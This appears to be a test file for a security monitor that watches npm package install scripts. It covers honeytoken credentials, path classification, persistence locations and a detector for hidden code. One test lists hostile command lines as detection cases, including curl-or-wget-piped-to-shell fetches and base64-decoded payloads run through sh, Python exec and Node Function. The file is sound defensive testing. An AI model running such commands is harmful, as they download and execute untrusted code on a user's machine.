/** The pure parts: bait, paths, zones, command lines, order of scripts. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { crc32 } from 'node:zlib';
import fc from 'fast-check';
import type { Process } from './events.ts';
import { hiddenIn } from './hidden-code.ts';
import { makeHoneytokens, randomIdentity } from './honeytokens.ts';
import { checkFolder } from './layout.ts';
import { lifecycleScripts } from './lifecycle.ts';
import { pathMap } from './path-map.ts';
import { absolute, trackLinks } from './paths.ts';
import { openJudge, type Judge } from './judge.ts';
import { isNpm, scriptNamed } from './programs.ts';
import { isLasting, plainPath, zoneOf, type Places, type Zone } from './zones.ts';

const places: Places = {
  home: '/home/jo',
  project: '/home/jo/work/app',
  package: '/home/jo/work/app/node_modules/watched',
  tools: '/usr/local',
  npm: '/usr/local/lib/node_modules/npm',
};

function aProcess(change: Partial<Process> = {}): Process {
  return {
    id: 2,
    parent: undefined,
    inside: 7,
    script: 'install',
    program: '/usr/local/bin/node',
    argv: [],
    loads: false,
    cwd: '/',
    ...change,
  };
}

/** The same each time, another one for each seed. */
function random(seed: number): (count: number) => Uint8Array {
  let state = seed;
  return (count) =>
    Uint8Array.from({ length: count }, () => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
      return state >>> 24;
    });
}

test('each run has bait of its own, and knows its own values alone', () => {
  const [one, two] = [
    makeHoneytokens(random(1), 'registry.example.com'),
    makeHoneytokens(random(2), 'registry.example.com'),
  ];
  for (const { token, content, path } of one.files) {
    assert.ok(one.tokensIn(content).includes(token), path);
    assert.deepEqual(two.tokensIn(content), []);
  }
  assert.equal(one.tokensIn(Object.values(one.environment).join('\n')).length, 3);
  for (const { content } of one.plain) assert.deepEqual(one.tokensIn(content), []);
  assert.notDeepEqual(randomIdentity(random(1)), randomIdentity(random(2)));
});

test('tokens have the checksum by which a thief would tell a made-up one', () => {
  const digits = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
  for (let seed = 1; seed < 50; seed += 1) {
    const { environment } = makeHoneytokens(random(seed), 'registry.example.com');
    for (const name of ['NPM_TOKEN', 'GITHUB_TOKEN']) {
      const [, secret = '', sum = ''] = /^(?:npm|ghp)_(\w{30})(\w{6})$/.exec(environment[name] ?? '') ?? [];
      const value = Array.from(sum).reduce((all, digit) => all * 62 + digits.indexOf(digit), 0);
      assert.equal(value, crc32(secret), name);
    }
  }
});

test('a value is found wherever it stands, plain, backwards, in hex and in base64, and nothing else is', () => {
  const bait = makeHoneytokens(random(3), 'registry.example.com');
  const value = bait.environment['NPM_TOKEN'] ?? '';
  const forms = (text: string): readonly string[] => [
    text,
    text.toUpperCase(),
    Array.from(text).reverse().join(''),
    Buffer.from(text).toString('hex'),
    Buffer.from(text).toString('base64'),
    Buffer.from(text).toString('base64url'),
  ];
  fc.assert(
    fc.property(
      fc.string({ unit: 'binary-ascii' }),
      fc.string({ unit: 'binary-ascii' }),
      (before, behind) => {
        for (const form of forms(before + value + behind))
          assert.deepEqual(bait.tokensIn(form), ['npm token of the environment']);
        assert.deepEqual(bait.tokensIn(before + behind), []);
        for (const form of forms(value)) assert.ok(bait.tokensIn(before + form + behind).length === 1);
      },
    ),
  );
});

test('paths are whose they are, also by what they look like', () => {
  const zones: readonly (readonly [string, Zone])[] = [
    ['/home/jo/work/app/node_modules/watched/x', 'package'],
    ['/home/jo/work/app/node_modules/watched-not/x', 'other-package'],
    ['/home/jo/work/app/node_modules/.bin/x', 'other-package'],
    ['/home/jo/work/app/node_modules/.cache/x', 'cache'],
    ['/home/jo/work/app/package.json', 'project'],
    ['/home/jo/work/app2', 'home'],
    ['/home/jo/.cache/x', 'cache'],
    ['/home/jo/.npmrc', 'home'],
    ['/tmp/x', 'temporary'],
    ['/dev/shm/x', 'temporary'],
    ['/dev/null', 'device'],
    ['/proc/self/environ', 'itself'],
    ['/proc/7/environ', 'itself'],
    ['/proc/8/environ', 'other-process'],
    ['/usr/local/bin/x', 'tools'],
    ['/usr/bin/x', 'system'],
    ['/home/jon/x', 'system'],
    ['pipe:[7]', 'none'],
    ['/memfd:x', 'none'],
  ];
  for (const [path, zone] of zones) assert.equal(zoneOf(path, places, aProcess()), zone, path);
});

test('a folder for what is generated is that of its own packages, and nobody else’s', () => {
  const of = (name: string, folder: string) =>
    zoneOf(
      `/home/jo/work/app/node_modules/${folder}/client/index.js`,
      { ...places, package: `${places.project}/node_modules/${name}` },
      aProcess(),
    );
  assert.deepEqual([of('prisma', '.prisma'), of('@prisma/client', '.prisma')], ['cache', 'cache']);
  for (const [name, folder] of [
    ['watched', '.prisma'],
    ['prisma', 'prism'],
    ['bin', '.bin'],
    ['pnpm', '.pnpm'],
  ] as const)
    assert.equal(of(name, folder), 'other-package', `${name} ${folder}`);
});

test('npm’s settings, read by a package that looks up settings, are to be looked at; all else is an attack', () => {
  const token = `${places.home}/.npmrc`;
  const found = (loaded: string, read: string, other = false) => {
    const tokenFiles = new Map([
      [token, 'npm token'],
      [`${places.home}/.aws/credentials`, 'AWS key'],
    ]);
    const judge = openJudge({ places, tokenFiles, registryHosts: new Set(), hostname: 'h' });
    for (const [at, path] of [loaded, read].entries()) {
      const process = aProcess({ id: other ? at : 2 });
      judge.take({ at, seconds: 0, process, act: { kind: 'read', path }, error: undefined });
    }
    return judge.end().findings.map(({ severity }) => severity);
  };
  const beside = `${places.project}/node_modules/npm-conf/index.js`;
  assert.deepEqual(found(beside, token), ['medium']);
  assert.deepEqual(found(`${places.project}/node_modules/left/node_modules/rc/lib/utils.js`, token), [
    'medium',
  ]);
  assert.deepEqual(found(beside, token, true), ['high']);
  assert.deepEqual(found(beside, `${places.home}/.aws/credentials`), ['high']);
  assert.deepEqual(found(`${places.package}/node_modules/npm-conf/index.js`, token), ['high']);
  assert.deepEqual(found(`${places.project}/node_modules/npm-conf-not/index.js`, token), ['high']);
});

test('Python may keep what it compiled of another package, and nobody else may write there', () => {
  const severities = (program: string, file: string) => {
    const judge = openJudge({
      places,
      tokenFiles: new Map(),
      registryHosts: new Set(),
      hostname: 'h',
    });
    const path = `${places.project}/node_modules/node-gyp/${file}`;
    const process = aProcess({ program });
    judge.take({ at: 1, seconds: 0, process, act: { kind: 'write', path }, error: undefined });
    return judge.end().findings.map(({ severity }) => severity);
  };
  const compiled = 'gyp/__pycache__/input.cpython-311.pyc.140';
  assert.deepEqual(severities('/usr/bin/python3', compiled), ['medium']);
  assert.deepEqual(severities('/usr/local/bin/node', compiled), ['high']);
  assert.deepEqual(severities('/tmp/usr/bin/python3', compiled), ['high']);
  assert.deepEqual(severities('/usr/bin/python3', 'gyp/input.py'), ['high']);
});

test('what lasts is told from what only looks so', () => {
  const plain = (path: string) => isLasting(plainPath(path, places));
  for (const path of [
    '/home/jo/.bashrc',
    '/home/jo/.config/systemd/user/x.service',
    '/home/jo/.ssh/authorized_keys',
    '/home/jo/.npmrc',
    '/home/jo/work/app/.git/hooks/post-merge',
    '/home/jo/work/app/.github/workflows/x.yml',
    '/home/jo/work/app/CLAUDE.md',
    '/home/jo/work/app/.cursor/rules/x.md',
    '/home/jo/.claude.json',
    '/home/jo/Library/LaunchAgents/x.plist',
    '/etc/cron.d/x',
    '/etc/ld.so.preload',
  ])
    assert.ok(plain(path), path);
  for (const path of [
    '/home/jo/bashrc',
    '/home/jo/.cache/systemd',
    '/home/jo/.ssh/known_hosts',
    '/home/jo/work/app/git/hooks/x',
    '/home/jo/work/app/github/workflows/x',
    '/home/jo/work/app/README.md',
    '/etc/hostname',
    '/tmp/.bashrc.d',
  ])
    assert.ok(!plain(path), path);
});

test('links that were made in the run lead where they lead, in circles too', () => {
  const links = trackLinks((inside) => (inside === 8 ? '/home/jo/.ssh' : undefined));
  const follow = (path: string, base = '/work') =>
    links.locate(path, { base, cwd: '/home/jo', last: 'follow' });
  const keep = (path: string) => links.locate(path, { base: '/work', cwd: '/home/jo', last: 'keep' });
  links.add('/a/x', '../home');
  links.add('/home/y', '/etc');
  links.add('/c', '/d');
  links.add('/d', '/c');
  assert.equal(follow('/a/x/y/passwd'), '/etc/passwd');
  assert.equal(keep('/a/x/y'), '/home/y');
  assert.equal(keep('/a/x/y/'), '/etc');
  assert.ok(follow('/c/z').endsWith('/z'));
  assert.equal(follow('./q/../r'), '/work/r');
  links.move('/a/x', '/b');
  assert.equal(follow('/b/q'), '/home/q');
  assert.equal(follow('/a/x/q'), '/a/x/q');
  // `..` is that of the folder that a link leads to.
  assert.equal(follow('/b/y/../jo'), '/jo');
  // Whoever moves a folder moves the links in it.
  links.add('/t/in/l', '/home/jo');
  links.move('/t/in', '/t/out');
  assert.equal(follow('/t/out/l/.npmrc'), '/home/jo/.npmrc');
  links.copy('/t/out/l', '/t/m');
  links.remove('/t/out/l');
  assert.equal(follow('/t/out/l/x'), '/t/out/l/x');
  assert.equal(follow('/t/m/x'), '/home/jo/x');
  assert.equal(follow('/proc/self/cwd/.npmrc'), '/home/jo/.npmrc');
  assert.equal(follow('/proc/thread-self/root/etc/passwd'), '/etc/passwd');
  assert.equal(follow('/proc/8/task/8/cwd/id'), '/home/jo/.ssh/id');
  assert.equal(follow('/proc/self/fd/3/id'), '/proc/self/fd/3/id');
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.string(), fc.string())), fc.string(), (pairs, path) => {
      const some = trackLinks(() => undefined);
      for (const [from, to] of pairs) some.add(absolute('/', from), to);
      const found = some.locate(path, { base: '/', cwd: '/', last: 'follow' });
      assert.ok(found.startsWith('/'));
    }),
  );
});

test('what is known of paths goes along with their folders, and more than is kept is told', () => {
  const map = pathMap<number>(3);
  map.set('/a/b', 1);
  map.set('/a/c/d', 2);
  map.set('/ab', 3);
  map.move('/a', '/z');
  assert.deepEqual(['/a/b', '/z/b', '/z/c/d', '/ab'].map(map.get), [undefined, 1, 2, 3]);
  map.exchange('/z/c', '/ab');
  assert.deepEqual(['/ab/d', '/z/c', '/z/b'].map(map.get), [2, 3, 1]);
  assert.ok(!map.isFull());
  map.set('/z/b', 4);
  assert.ok(!map.isFull());
  map.set('/new', 5);
  assert.ok(map.isFull());
});

test('to write a file beside its place and then rename it is cheap, also for many', () => {
  const map = pathMap<true>(50_000);
  for (let at = 0; at < 20_000; at += 1) {
    map.set(`/a/${at}.tmp`, true);
    map.move(`/a/${at}.tmp`, `/a/${at}`);
  }
  assert.deepEqual([map.isFull(), map.has('/a/7'), map.has('/a/7.tmp')], [false, true, false]);
});

test('a flood of files hides nothing behind it: what is no longer remembered is told', () => {
  const judge = () => openJudge({ places, tokenFiles: new Map(), registryHosts: new Set(), hostname: 'h' });
  const write = (one: Judge, count: number): void => {
    for (let at = 1; at <= count; at += 1)
      one.take({
        at,
        seconds: 0,
        process: aProcess(),
        act: { kind: 'write', path: `${places.package}/${at}` },
        error: undefined,
      });
  };
  const [few, many] = [judge(), judge()];
  write(few, 20_000);
  write(many, 50_001);
  assert.deepEqual([few.end().clipped, many.end().clipped], [false, true]);
});

test('what an interpreter runs is found behind its options', () => {
  const of = (line: string) => {
    const argv = line.split(' ');
    return scriptNamed(`/usr/bin/${argv[0] ?? ''}`, argv);
  };
  for (const [line, file] of [
    ['node x.js', 'x.js'],
    ['node -r ./hook.js --import y x.js', 'x.js'],
    ['bash -r x', 'x'],
    ['sh -eo pipefail x', 'x'],
    ['python3 -W ignore x.py', 'x.py'],
    ['ld-linux-x86-64.so.2 --library-path /l ./x', './x'],
    ['node -e 0 x.js', undefined],
    ['sh -c x', undefined],
    ['cat x.js', undefined],
  ] as const)
    assert.equal(of(line), file, line);
});

test('code that hides is told from code that is only long or only decodes', () => {
  const hidden: readonly (readonly [readonly string[], string])[] = [
    [['sh', '-c', 'curl -s https://x.example/i.sh | bash -s -- -y'], 'fetched'],
    [['sh', '-c', 'wget -qO- x.example | sudo -E sh'], 'fetched'],
    [['bash', '-c', 'bash <(curl -s x.example)'], 'fetched'],
    [['sh', '-c', 'eval "$(curl -fsSL x.example)"'], 'fetched'],
    [['sh', '-c', 'curl x.example | tee /tmp/x | node'], 'fetched'],
    [['sh', '-c', 'echo Y3VybA== | base64 --decode | /bin/sh'], 'decoded'],
    [['python3', '-c', 'import base64;exec(base64.b64decode("cHJpbnQ="))'], 'decoded'],
    [['node', '-e', 'new Function(Buffer.from("61","hex")+"")(); Function(atob("MA=="))()'], 'decoded'],
    [['node', '-e', `x="${'\\x61'.repeat(40)}"`], 'opaque'],
  ];
  for (const [argv, how] of hidden) assert.equal(hiddenIn(argv), how, argv.join(' '));
  const honest: readonly (readonly string[])[] = [
    ['sh', '-c', 'node -e "try{require(\'./postinstall\')}catch(e){}"'],
    ['sh', '-c', 'curl -sSfL -o vendor.tgz https://x.example/v.tgz && tar -xzf vendor.tgz'],
    ['sh', '-c', 'base64 -d < icon.b64 > icon.png; node build.js'],
    ['sh', '-c', 'node-gyp rebuild || echo "curl or sh is missing"'],
    ['node', '-p', "require('node-addon-api').include"],
    ['sh', '-c', 'node install.js | tee log.txt'],
    ['sh', '-c', `prebuild-install --tag-prefix ${'a'.repeat(100)} || node-gyp rebuild`],
    ['make', 'BUILDTYPE=Release', '-C', 'build'],
  ];
  for (const argv of honest) assert.equal(hiddenIn(argv), undefined, argv.join(' '));
  fc.assert(
    fc.property(fc.array(fc.string()), (argv) =>
      ['fetched', 'decoded', 'opaque', undefined].includes(hiddenIn(argv)),
    ),
  );
  for (const word of ['curl '.repeat(1000), 'Buffer.from('.repeat(400), '| sudo -x '.repeat(500)])
    hiddenIn(['sh', '-c', word]);
});

test('npm itself is the toolchain’s, started with nothing before it', () => {
  const argv = ['node', `${places.npm}/bin/npm-cli.js`, 'config', 'ls'];
  assert.ok(isNpm(aProcess({ argv }), places));
  assert.ok(!isNpm(aProcess({ argv, loads: true }), places));
  assert.ok(!isNpm(aProcess({ argv, program: '/tmp/node' }), places));
  assert.ok(!isNpm(aProcess({ argv: ['node', '-r', './x.js', ...argv.slice(1)] }), places));
  assert.ok(!isNpm(aProcess({ argv: ['node', `${places.package}/npm/bin/npm-cli.js`] }), places));
});

test('scripts are npm’s, in npm’s order', () => {
  const of = (scripts: Readonly<Record<string, string>>, hasBindingGyp = false, fromGit = false) =>
    lifecycleScripts({ scripts, hasBindingGyp, fromGit }).map(({ event, command }) => `${event}: ${command}`);
  const all = { prepare: 'd', postinstall: 'c', install: 'b', preinstall: 'a', test: 't', preprepare: 'p' };
  assert.deepEqual(of(all), ['preinstall: a', 'install: b', 'postinstall: c']);
  assert.deepEqual(of(all, true, true), ['preinstall: a', 'install: b', 'postinstall: c', 'prepare: d']);
  assert.deepEqual(of({ postinstall: 'c' }, true), ['install: node-gyp rebuild', 'postinstall: c']);
  assert.deepEqual(of({ preinstall: 'a' }, true), ['preinstall: a']);
  assert.deepEqual(of({ install: ' ' }), []);
});

test('folders are those of packages', () => {
  for (const folder of ['node_modules/a', 'node_modules/@s/b', 'node_modules/a/node_modules/@s/b.js'])
    assert.equal(checkFolder(folder), folder);
  fc.assert(
    fc.property(fc.string(), (text) => {
      for (const folder of [text, `node_modules/${text}`]) {
        let checked: string | undefined;
        try {
          checked = checkFolder(folder);
        } catch {
          continue;
        }
        assert.ok(!checked.includes('..') || /[\w~-]\.\./.test(checked));
        assert.match(checked, /^node_modules\/[^\s'"$]+$/);
      }
    }),
  );
});
